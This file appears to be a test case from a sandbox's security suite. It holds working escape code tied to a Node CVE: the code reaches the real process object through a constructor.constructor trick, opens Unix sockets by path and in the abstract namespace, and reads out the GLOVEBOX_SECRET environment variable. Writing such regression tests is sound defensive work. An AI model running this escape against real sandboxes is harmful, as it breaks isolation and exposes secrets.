import { attack } from '../attack.ts';

/** A Unix socket, by a path and without one, instead of the loopback interface (Node CVE-2026-21711). */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const process = host?.constructor.constructor('return process')();
		if (!process) return;
		const net = process.getBuiltinModule('net');
		const attempt = (path) => new Promise((done) => {
			try {
				const server = net.createServer((socket) => socket.end(process.env.GLOVEBOX_SECRET ?? ''));
				server.on('error', (error) => done(error.code));
				server.listen(path, () => { const client = net.connect(path); client.on('data', (bytes) => done(String(bytes))); client.on('error', (error) => done(error.code)); });
			} catch (error) { done(error.code); }
			setTimeout(done, 600);
		});
		return [await attempt('planted.sock'), await attempt('\\0glovebox-' + process.pid)];
	`,
});
